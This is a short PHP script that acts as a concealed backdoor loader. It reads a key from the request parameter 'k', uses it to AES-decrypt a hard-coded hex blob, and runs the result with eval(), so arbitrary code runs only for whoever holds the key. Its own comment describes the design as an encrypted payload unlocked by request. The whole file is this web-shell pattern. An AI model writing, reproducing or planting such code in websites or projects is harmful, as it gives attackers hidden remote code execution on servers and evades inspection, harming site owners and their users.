<?php
// the payload is AES-encrypted; only a request carrying the key unlocks and runs it
function unlock($hex, $k)
{
    $raw = hex2bin($hex);
    $iv = substr($raw, 0, 16);
    return openssl_decrypt(substr($raw, 16), 'aes-128-cbc', md5($k, true), OPENSSL_RAW_DATA, $iv);
}
if (!empty($_REQUEST['k'])) {
    $key = $_REQUEST['k'];
    $blob = '00112233445566778899aabbccddeeff5f1c3e2a9b8d7c6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0';
    eval(unlock($blob, $key));
}
